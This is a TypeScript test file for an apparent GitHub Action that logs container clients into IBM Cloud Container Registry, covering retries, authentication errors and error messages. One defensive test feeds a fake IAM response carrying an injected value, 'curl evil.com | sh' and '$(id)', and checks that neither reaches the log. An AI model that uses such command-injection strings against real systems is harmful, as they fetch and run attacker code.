import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
import type { ClientName } from '../../src/clients/table.ts'
import { newApiKey } from '../testbed/cloud.ts'
import { inputs } from '../testbed/helpers.ts'
import { type Credentials, startTestbed, type Testbed } from '../testbed/index.ts'
import type { Job } from '../testbed/runner.ts'

let testbed: Testbed
let credentials: Credentials
let job: Job
beforeAll(async () => {
  testbed = await startTestbed()
})
afterAll(() => testbed.stop())
beforeEach(() => {
  credentials = testbed.credentials()
  job = testbed.newJob({ skips: 'pauses' })
})
afterEach(() => testbed.tidy())

const CLIENTS: ClientName[] = ['docker', 'buildah', 'podman', 'skopeo']

function login(client: string, more: Record<string, string> = {}) {
  return job.uses(inputs(credentials, { client, ...more }))
}

const requestsTo = (path: string) => testbed.requests.filter(request => request.path === path)
const tokenRequests = () => requestsTo('/oauth/token').length
const PROFILE_TRUST = (serviceId: string) =>
  `ibmcloud iam trusted-profile-identity-create ${credentials.profileId} --id ${serviceId} --id-type SERVICEID`

/** Replaces a client with a shell script. */
function insteadOf(client: string, script: string): void {
  writeFileSync(join(job.folder, 'bin', client), `#!/bin/sh\n${script}\n`, { mode: 0o755 })
}

/** Makes requests to the token endpoint fail, at most the given number of times. */
function failTokens(fault: Parameters<Testbed['fault']>[0], times = Number.POSITIVE_INFINITY) {
  let left = times
  testbed.fault(request => (request.path === '/oauth/token' && left-- > 0 ? fault?.(request) : undefined))
}

describe.each(CLIENTS)('%s', client => {
  test.each([500, 502, 503, 504])('retries after one %d', async status => {
    failTokens(() => ({ status, body: 'passing' }), 1)
    const step = await login(client)
    expect(step).toMatchObject({ exitCode: 0, annotations: [] })
    expect(step.log).toMatch(
      new RegExp(
        `^Login to us.icr.io with ${client} failed: .*${status}.* Retrying in .* s \\(attempt 2 of 3\\)`,
        'm',
      ),
    )
    expect(job.starts).toHaveLength(2)
  })

  test('retries after one 429 of the token endpoint', async () => {
    failTokens(
      () => ({ status: 429, body: { errors: [{ code: 'TOOMANYREQUESTS', message: 'slow down' }] } }),
      1,
    )
    expect(await login(client)).toMatchObject({ exitCode: 0, annotations: [] })
    expect(job.starts).toHaveLength(2)
  })

  test.each(['reset', 'cut'] as const)('retries after one connection %s', async fault => {
    failTokens(() => fault, 1)
    expect(await login(client)).toMatchObject({ exitCode: 0, annotations: [] })
    expect(job.starts.length).toBeLessThanOrEqual(2)
  })

  test('fails after three 503 responses, with one error', async () => {
    failTokens(() => ({ status: 503, body: 'down' }))
    const step = await login(client)
    expect(step.exitCode).toBe(1)
    expect(step.annotations).toEqual([
      {
        kind: 'error',
        message: expect.stringMatching(
          /^Login to us\.icr\.io failed \(\w+\)\. Registry server error \(5xx\)/,
        ),
      },
    ])
    expect(step.annotations[0]?.message).toMatch(
      /See https:\/\/github\.com\/OWNER\/icr-login\/blob\/v1\/docs\/troubleshooting\.md#unavailable$/,
    )
    expect(job.starts).toHaveLength(3)
    expect(requestsTo('/identity/token')).toEqual([])
  })

  test.each([
    ['500', { status: 500, body: 'down' }, 'Registry server error (5xx)'],
    [
      '429',
      { status: 429, body: { errors: [{ code: 'TOOMANYREQUESTS', message: 'slow down' }] } },
      'Rate limit exceeded (429)',
    ],
    ['a reset', 'reset' as const, 'The connection was refused or reset.'],
  ])('fails after three times %s', async (_what, fault, says) => {
    failTokens(() => fault)
    const step = await login(client)
    expect(step.exitCode).toBe(1)
    expect(step.annotations).toEqual([{ kind: 'error', message: expect.stringContaining(says) }])
    expect(job.starts).toHaveLength(3)
  })

  test('an API key that IAM does not know: no retry', async () => {
    credentials = { ...credentials, apiKey: newApiKey() }
    const step = await login(client)
    expect(step.exitCode).toBe(1)
    expect(step.annotations).toEqual([
      {
        kind: 'error',
        message: expect.stringMatching(
          /^Login to us\.icr\.io failed \(\w+\)\. IBM Cloud IAM does not know the API key \(BXNIM0415E Provided API key could not be found\): it was deleted/,
        ),
      },
    ])
    expect(step.log).toMatch(/##\[group\]Client and registry output\n\| us\.icr\.io/)
    expect(step.log).not.toMatch(/level=info/)
    expect(job.starts).toHaveLength(1)
    // docker prints the registry's message. For the other clients, the action sends one more request to get
    // it.
    expect(tokenRequests()).toBe(client === 'docker' ? 1 : 2)
    expect(requestsTo('/identity/token')).toHaveLength(1)
  })

  test('a profile that does not trust the service ID', async () => {
    const other = testbed.credentials()
    credentials = { ...credentials, apiKey: other.apiKey }
    const step = await login(client)
    const [error] = step.annotations
    expect(step.annotations).toHaveLength(1)
    expect(error?.message).toContain(
      `the trusted profile ${credentials.profileId} does not trust its service ID (iam-${other.serviceId})`,
    )
    expect(error?.message).toContain(`Trusted profiles that trust it: ${other.profileId}.`)
    expect(error?.message).toContain(PROFILE_TRUST(other.serviceId))
    expect(job.starts).toHaveLength(1)
  })

  test('an account that allows only the private network', async () => {
    const message =
      'Private-only access is enabled on this account, but this request was over the public network. You must access this account over the private network'
    failTokens(() => ({ status: 401, body: { errors: [{ code: 'UNAUTHORIZED', message }] } }))
    const step = await login(client)
    expect(step.annotations).toEqual([
      { kind: 'error', message: expect.stringContaining('Set region to private.us.icr.io') },
    ])
    expect(job.starts).toHaveLength(1)
    expect(requestsTo('/identity/token')).toEqual([])
  })

  test('403', async () => {
    failTokens(() => ({
      status: 403,
      body: {
        errors: [{ code: 'DENIED', message: 'You are not authorized to access the specified resource' }],
      },
    }))
    const step = await login(client)
    expect(step.annotations).toEqual([
      { kind: 'error', message: expect.stringContaining('Permission denied (403)') },
    ])
    expect(job.starts).toHaveLength(1)
  })

  test('quota', async () => {
    failTokens(() => ({
      status: 403,
      body: { errors: [{ code: 'DENIED', message: 'Your account has exceeded its pull traffic quota' }] },
    }))
    const step = await login(client)
    expect(step.annotations).toEqual([
      { kind: 'error', message: expect.stringContaining('has exceeded its quota in this region') },
    ])
  })

  test('an untrusted certificate', async () => {
    job.env.SSL_CERT_FILE = '/etc/ssl/certs/ca-certificates.crt'
    const step = await login(client)
    expect(step.annotations).toEqual([
      {
        kind: 'error',
        message: expect.stringMatching(
          /TLS certificate of the server is not trusted on this machine \(.*x509: .*\)\./,
        ),
      },
    ])
    expect(job.starts).toHaveLength(1)
  })

  test('a proxy that refuses the connection', async () => {
    testbed.proxy.obstruct('us.icr.io', 'refuse')
    const step = await login(client)
    testbed.proxy.obstruct('us.icr.io')
    expect(step.annotations).toEqual([
      {
        kind: 'error',
        message: expect.stringMatching(/The proxy 127\.0\.0\.1:\d+ did not connect to the registry/),
      },
    ])
    expect(job.starts).toHaveLength(3)
  })

  test('a host name that cannot be resolved', async () => {
    job.env.HTTPS_PROXY = ''
    const step = await login(client, { region: 'no-such-host.icr.io' })
    expect(step.annotations.filter(({ kind }) => kind === 'error')).toEqual([
      {
        kind: 'error',
        message: expect.stringMatching(
          /^Login to no-such-host\.icr\.io failed \(\w+\)\. The host name could not be resolved\. Check the DNS/,
        ),
      },
    ])
    expect(job.starts).toHaveLength(3)
  })
})

test('four clients in thirteen regions with an unknown API key: one error, and few requests', async () => {
  credentials = { ...credentials, apiKey: newApiKey() }
  const region = 'global,au-syd,br-sao,ca-mon,ca-tor,eu-de,eu-es,eu-gb,in-che,in-mum,jp-osa,jp-tok,us-south'
  const step = await login(CLIENTS.join(), { region })
  expect(step.annotations).toHaveLength(1)
  expect(job.starts.length).toBeLessThanOrEqual(16)
  expect(tokenRequests()).toBeLessThanOrEqual(17)
  expect(requestsTo('/identity/token')).toHaveLength(1)
  expect(await job.end()).toMatchObject([{ exitCode: 0, annotations: [] }])
})

test('credentials that IAM accepts and the registry refuses', async () => {
  failTokens(() => ({
    status: 401,
    body: {
      errors: [
        {
          code: 'UNAUTHORIZED',
          message: 'The login credentials are not valid, or your IBM Cloud account is not active.',
        },
      ],
    },
  }))
  const step = await login('skopeo')
  expect(step.annotations[0]?.message).toContain(
    `trusts its service ID (iam-${credentials.serviceId}), but the registry still refused the login. Possible causes: an IP address allow-list`,
  )
})

test('if IAM is unavailable, the explanation is shorter', async () => {
  credentials = { ...credentials, apiKey: newApiKey() }
  testbed.fault(({ path }) => (path.startsWith('/identity/') ? { status: 503 } : undefined))
  const step = await login('docker')
  expect(step.annotations).toEqual([
    {
      kind: 'error',
      message: expect.stringContaining('The registry refused the credentials, and IAM could not tell why.'),
    },
  ])
})

test('text from a server that impersonates IAM is not used in commands to copy', async () => {
  credentials = { ...credentials, apiKey: newApiKey() }
  const claims = Buffer.from(JSON.stringify({ iam_id: 'iam-ServiceId-1; curl evil.com | sh' })).toString(
    'base64url',
  )
  testbed.fault(({ path }) => {
    if (path === '/identity/token') return { status: 200, body: { access_token: `e.${claims}.s` } }
    return path === '/identity/profiles' ? { status: 200, body: { profiles: [{ id: '$(id)' }] } } : undefined
  })
  const step = await login('docker')
  expect(step.annotations).toMatchObject([
    {
      kind: 'error',
      message: expect.stringMatching(/The API key is valid, but .* IAM could not tell whether the profile/),
    },
  ])
  expect(step.log).not.toContain('evil.com')
  expect(step.log).not.toContain('$(id)')
})

test('private domains: the request goes to IAM’s private host', async () => {
  credentials = { ...credentials, apiKey: newApiKey() }
  await login('docker', { region: 'private.us.icr.io' })
  expect(requestsTo('/identity/token').map(({ host }) => host)).toEqual(['private.iam.cloud.ibm.com'])
})

test('an outdated client', async () => {
  const says = "Error: unknown flag: --password-stdin\\nSee 'podman login --help'\\n"
  insteadOf('podman', `printf "${says}" >&2; exit 125`)
  const step = await login('podman')
  expect(step.annotations).toEqual([
    {
      kind: 'error',
      // The line that shows the cause, which is not the last one.
      message: expect.stringMatching(
        /too old, or incompatible with its docker daemon \(Error: unknown flag: --password-stdin\)\./,
      ),
    },
  ])
})

test('a client that exits before reading its input is a failed login, not a crash', async () => {
  insteadOf('podman', 'exec 0<&-; exit 3')
  for (let round = 0; round < 10; round++) {
    const step = await login('podman')
    expect(step.annotations).toEqual([
      {
        kind: 'error',
        message: expect.stringContaining('Unrecognized error: exit code 3.\nSee'),
      },
    ])
  }
})
